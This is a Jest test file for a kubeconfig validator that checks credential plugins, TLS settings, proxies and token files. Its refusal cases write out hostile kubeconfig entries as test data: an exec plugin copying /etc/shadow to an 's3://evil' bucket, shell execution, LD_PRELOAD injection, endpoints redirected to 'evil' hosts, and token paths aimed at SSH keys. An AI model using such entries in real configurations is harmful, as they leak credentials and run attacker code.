import { describe, expect, test } from '@jest/globals'
import { FakeFiles, fakePorts } from '@slipway/testing'
import type { AllowedProgram } from './credential-plugin'
import { checkChosen, chooseContext } from './kubeconfig'
import { mergeDocuments } from './merge'
import { readNamedFiles } from './named-files'

interface Wish {
  readonly cluster?: object
  readonly user?: object
  readonly contexts?: readonly string[]
}

const config = ({ cluster = {}, user = { token: 't0ken' }, contexts = ['prod'] }: Wish = {}) => ({
  'current-context': contexts[0],
  contexts: contexts.map((name) => ({ name, context: { cluster: 'c', user: 'u', namespace: 'x' } })),
  clusters: [{ name: 'c', cluster: { server: 'https://k8s.example.com', ...cluster } }],
  users: [{ name: 'u', user }],
})
const PEM = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'
const FOLDER = '/home/kube'

interface Allowed {
  readonly context?: string
  readonly exec?: readonly AllowedProgram[]
  readonly skipTlsVerify?: boolean
  readonly inCheckout?: boolean
}

/** As `openAccess` does it, on files in memory. */
async function check(document: object, { context, exec = [], skipTlsVerify = false, inCheckout }: Allowed = {}) {
  const files = new FakeFiles({
    '/home/kube/ca.crt': PEM,
    '/home/kube/token': 't0ken-beside\n',
    '/home/ca.crt': PEM,
    '/home/key.pem': '-----BEGIN RSA PRIVATE KEY-----\nk3y\n-----END RSA PRIVATE KEY-----\n',
    '/root/.ssh/id_rsa': 'canary',
    '/run/secrets/other/token': 't0ken-mounted',
  })
  const ports = fakePorts({ files })
  const place = { folder: FOLDER, ...(inCheckout === undefined ? {} : { inCheckout }) }
  const chosen = chooseContext(mergeDocuments([{ content: document as Record<string, unknown>, ...place }]), context)
  if ('problems' in chosen) return chosen
  const named = {
    cluster: await readNamedFiles(ports, 'cluster', chosen.ok.cluster),
    user: await readNamedFiles(ports, 'user', chosen.ok.user),
  }
  return checkChosen(chosen.ok, named, { allowExec: exec, skipTlsVerify })
}

async function problems(wish: Wish, allowed: Allowed = {}): Promise<readonly string[]> {
  const result = await check(config(wish), allowed)
  return 'ok' in result ? [] : result.problems
}

async function accepted(wish: Wish, allowed: Allowed = {}) {
  const result = await check(config(wish), allowed)
  if (!('ok' in result)) throw new Error(result.problems.join())
  return result.ok
}

describe('kubeconfig', () => {
  test('keeps what was checked, of one context, and nothing else', async () => {
    const { secrets, text } = await accepted({
      cluster: { 'certificate-authority': 'ca.crt', extensions: [{ name: 'x' }] },
    })
    expect(secrets).toEqual(['t0ken'])
    expect(JSON.parse(text(undefined))).toMatchObject({
      'current-context': 'prod',
      contexts: [{ name: 'prod', context: { cluster: 'cluster', user: 'user' } }],
      clusters: [
        {
          cluster: {
            server: 'https://k8s.example.com',
            'certificate-authority-data': Buffer.from(PEM).toString('base64'),
          },
        },
      ],
    })
    expect(text(undefined)).not.toContain('extensions')
    expect(text(undefined)).not.toContain('namespace')
  })

  test.each<[string, Wish, RegExp]>([
    ['any program', { user: { exec: { command: '/bin/sh', args: ['-c', 'env'] } } }, /exec starts a program/],
    ['a known plugin by another path', { user: { exec: { command: './aws' } } }, /exec starts a program/],
    [
      'a plugin for something else',
      { user: { exec: { command: 'aws', args: ['s3', 'cp', '/etc/shadow', 's3://evil'] } } },
      /something else than a token/,
    ],
    [
      'a plugin for something else, between options',
      { user: { exec: { command: 'aws', args: ['--debug', 'configure', '--debug', 'set', 'eks', 'get-token'] } } },
      /something else than a token/,
    ],
    [
      'a plugin asked elsewhere',
      { user: { exec: { command: 'aws', args: ['eks', 'get-token', '--endpoint-url=http://evil'] } } },
      /something else than a token/,
    ],
    [
      'a plugin that is told to do more',
      { user: { exec: { command: 'kubelogin', args: ['remove-tokens'] } } },
      /something else than a token/,
    ],
    [
      'a plugin with a library of its own',
      {
        user: {
          exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'LD_PRELOAD', value: '/work/x.so' }] },
        },
      },
      /exec sets LD_PRELOAD/,
    ],
    [
      'a plugin with a configuration of its own',
      {
        user: {
          exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_CONFIG_FILE', value: '/work/x' }] },
        },
      },
      /exec sets AWS_CONFIG_FILE/,
    ],
    [
      'a plugin with an interpreter of its own',
      { user: { exec: { command: 'gke-gcloud-auth-plugin', env: [{ name: 'CLOUDSDK_PYTHON', value: '/work/x' }] } } },
      /exec sets CLOUDSDK_PYTHON/,
    ],
    ['an inherited name', { user: { exec: { command: 'constructor' } } }, /exec starts a program/],
    ['auth-provider', { user: { 'auth-provider': { name: 'oidc' } } }, /auth-provider/],
    ['a proxy that is none', { cluster: { 'proxy-url': 'file:///x' } }, /proxy-url/],
    [
      'no verification of this machine through a proxy',
      {
        cluster: {
          server: 'https://127.0.0.1:6443',
          'proxy-url': 'http://evil',
          'insecure-skip-tls-verify': true,
        },
      },
      /insecure-skip-tls-verify/,
    ],
    [
      'Azure asked elsewhere',
      { user: { exec: { command: 'kubelogin', args: ['get-token', '--authority-host', 'https://evil'] } } },
      /something else than a token/,
    ],
    [
      'Azure asked elsewhere, in one word',
      { user: { exec: { command: 'kubelogin', args: ['get-token', '--authority-host=https://evil'] } } },
      /something else than a token/,
    ],
    [
      'a token for all of Azure',
      { user: { exec: { command: 'kubelogin', args: ['get-token', '--server-id', 'https://management.azure.com'] } } },
      /something else than a token/,
    ],
    [
      'a file of Azure that the kubeconfig names',
      { user: { exec: { command: 'kubelogin', args: ['get-token', '--federated-token-file', '/etc/shadow'] } } },
      /something else than a token/,
    ],
    [
      'any option of Google',
      { user: { exec: { command: 'gke-gcloud-auth-plugin', args: ['--kubeconfig=/work/x'] } } },
      /something else than a token/,
    ],
    [
      'another program, with the way through',
      { user: { exec: { command: 'doctl', args: ['kubernetes'] } } },
      /if you trust it, set allow-exec: doctl/,
    ],
    ['no verification', { cluster: { 'insecure-skip-tls-verify': true } }, /insecure-skip-tls-verify/],
    ['plain http', { cluster: { server: 'http://k8s.example.com' } }, /plain http/],
    ['a password in the address', { cluster: { server: 'https://a:b@k8s.example.com' } }, /https:\/\/ address/],
    ['a foreign token file', { user: { tokenFile: '/root/.ssh/id_rsa' } }, /tokenFile/],
    ['a certificate that is none', { cluster: { 'certificate-authority': '/root/.ssh/id_rsa' } }, /no certificate/],
    ['a certificate that is not there', { cluster: { 'certificate-authority': 'gone' } }, /cannot be read/],
    ['a key that is none', { user: { 'client-key': 'ca.crt' } }, /no private key/],
    ['several contexts', { contexts: ['a', 'b'] }, /name one with kube-context/],
    ['no context', { contexts: [] }, /no context/],
  ])('refuses %s', async (_, wish, want) => expect((await problems(wish)).join('\n')).toMatch(want))

  test('a secret in the environment or the arguments of a plugin is hidden', async () => {
    const exec = { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'k3y' }] }
    expect(await check(config({ user: { exec } }))).toMatchObject({ ok: { secrets: ['k3y'] } })
    const azure = { command: 'kubelogin', args: ['get-token', '--client-secret', 's3c', '--client-secret=s3d'] }
    expect(await check(config({ user: { exec: azure } }))).toMatchObject({ ok: { secrets: ['s3c', 's3d'] } })
    const proxy = { 'proxy-url': 'http://me:pr0xy@proxy:3128' }
    expect((await accepted({ cluster: proxy })).secrets).toContain('pr0xy')
  })

  test('names every problem at once', async () => {
    expect(
      await problems({
        cluster: { 'proxy-url': 'x', server: 'ftp://x' },
        user: { exec: { command: 'sh' }, tokenFile: '/x' },
      }),
    ).toHaveLength(4)
  })

  test.each([
    ['a named context of several', { contexts: ['a', 'b'] }, 'b'],
    ['a cloud plugin', { user: { exec: { command: 'aws', args: ['eks', 'get-token'] } } }, undefined],
    [
      'a cloud plugin as aws eks update-kubeconfig writes it',
      {
        user: {
          exec: {
            command: 'aws',
            args: ['--region', 'eu-west-1', 'eks', 'get-token', '--cluster-name', 'shop', '--output', 'json'],
            env: [{ name: 'AWS_PROFILE', value: 'prod' }],
          },
        },
      },
      undefined,
    ],
    [
      'as gcloud writes it',
      { user: { exec: { command: 'gke-gcloud-auth-plugin', provideClusterInfo: true } } },
      undefined,
    ],
    [
      'as az and kubelogin write it',
      {
        user: {
          exec: {
            command: 'kubelogin',
            args: ['get-token', '--login', 'spn', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630'],
            env: [{ name: 'AAD_LOGIN_METHOD', value: 'spn' }],
          },
        },
      },
      undefined,
    ],
    [
      'this machine without verification',
      { cluster: { server: 'https://127.0.0.1:6443', 'insecure-skip-tls-verify': true } },
      undefined,
    ],
    [
      'a plugin by its whole path',
      { user: { exec: { command: '/usr/local/bin/aws', args: ['eks', 'get-token'] } } },
      undefined,
    ],
    ['a proxy', { cluster: { 'proxy-url': 'socks5://proxy:1080' } }, undefined],
    ['a certificate above the folder', { cluster: { 'certificate-authority': '../ca.crt' } }, undefined],
    ['a key elsewhere, as minikube has it', { user: { 'client-key': '/home/key.pem' } }, undefined],
    ['a token beside it', { user: { tokenFile: 'token' } }, undefined],
    ['a token that is mounted', { user: { tokenFile: '/run/secrets/other/token' } }, undefined],
    ['no user', { user: {} }, undefined],
  ] as const)('takes %s', async (_, wish, context) =>
    expect(await problems(wish, context === undefined ? {} : { context })).toEqual([]),
  )

  test('a mounted token is not sent for a kubeconfig of the checkout', async () => {
    const user = { tokenFile: '/run/secrets/other/token' }
    expect((await problems({ user }, { inCheckout: true })).join()).toMatch(/names the token of this pod/)
    expect(await problems({ user: { tokenFile: 'token' } }, { inCheckout: true })).toEqual([])
  })

  test('what no certificate protects is taken when the user says so, and told', async () => {
    const cluster = { 'insecure-skip-tls-verify': true }
    expect(await accepted({ cluster }, { skipTlsVerify: true })).toMatchObject({ unverified: true })
    expect(await problems({ cluster: { server: 'http://k8s.example.com' } }, { skipTlsVerify: true })).toHaveLength(1)
  })

  test('a program that is allowed gets the variables that it is allowed, and no others', async () => {
    const exec = { apiVersion: 'v1beta1', command: 'doctl', args: ['a'], env: [{ name: 'DO_TOKEN', value: 't' }] }
    const allow = (...variables: string[]) => ({ exec: [{ program: 'doctl', variables }] })
    expect((await problems({ user: { exec } }, allow())).join()).toMatch(/exec sets DO_TOKEN/)
    const { plugin, text } = await accepted({ user: { exec } }, allow('DO_TOKEN'))
    expect([plugin?.sees('DO_TOKEN'), plugin?.sees('AWS_PROFILE'), plugin?.variables]).toEqual([
      true,
      false,
      ['DO_TOKEN'],
    ])
    expect(JSON.parse(text('/usr/bin/doctl'))).toMatchObject({
      users: [{ user: { exec: { ...exec, command: '/usr/bin/doctl', interactiveMode: 'Never' } } }],
    })
  })

  test('a known program that is allowed may have any options', async () => {
    const exec = { command: 'kubelogin', args: ['get-token', '--authority-host', 'https://adfs.example.com'] }
    expect(await problems({ user: { exec } }, { exec: [{ program: 'kubelogin', variables: [] }] })).toEqual([])
  })

  test('a host that only looks like this machine is another one', async () => {
    expect(
      await problems({ cluster: { server: 'https://127.0.0.1.example.com', 'insecure-skip-tls-verify': true } }),
    ).toHaveLength(1)
  })

  test('of several files the first entry of a name counts, each path from its own file', async () => {
    const one = { clusters: [{ name: 'c', cluster: { server: 'https://one' } }], contexts: [], users: [] }
    const two = config({ user: { tokenFile: 'token' } })
    const merged = mergeDocuments([
      { content: one, folder: '/home/other' },
      { content: two, folder: FOLDER },
    ])
    const chosen = chooseContext(merged, undefined)
    expect(chosen).toMatchObject({
      ok: { cluster: { fields: { server: 'https://one' }, folder: '/home/other' }, user: { folder: FOLDER } },
    })
  })
})
